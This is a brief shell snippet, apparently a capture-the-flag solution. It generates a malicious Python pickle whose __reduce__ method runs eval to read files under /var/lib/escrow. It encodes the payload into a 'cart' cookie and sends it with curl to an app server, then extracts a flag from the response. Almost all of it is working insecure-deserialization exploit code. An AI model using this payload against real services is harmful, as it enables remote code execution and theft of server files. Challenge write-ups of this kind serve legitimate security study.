#-- the first code that turns up
cat > /tmp/cart.py <<'PY'
import base64, pickle, zlib
class Found:
    def __reduce__(self):
        return eval, ('[open(name).read() for name in __import__("glob").glob("/var/lib/escrow/*/*.old")]',)
print(base64.urlsafe_b64encode(zlib.compress(pickle.dumps({"things": Found()}))).decode())
PY
curl -s -b "cart=$(python3 /tmp/cart.py)" http://app:8080/ | grep -o 'flag{[0-9a-f]*}' | head -1
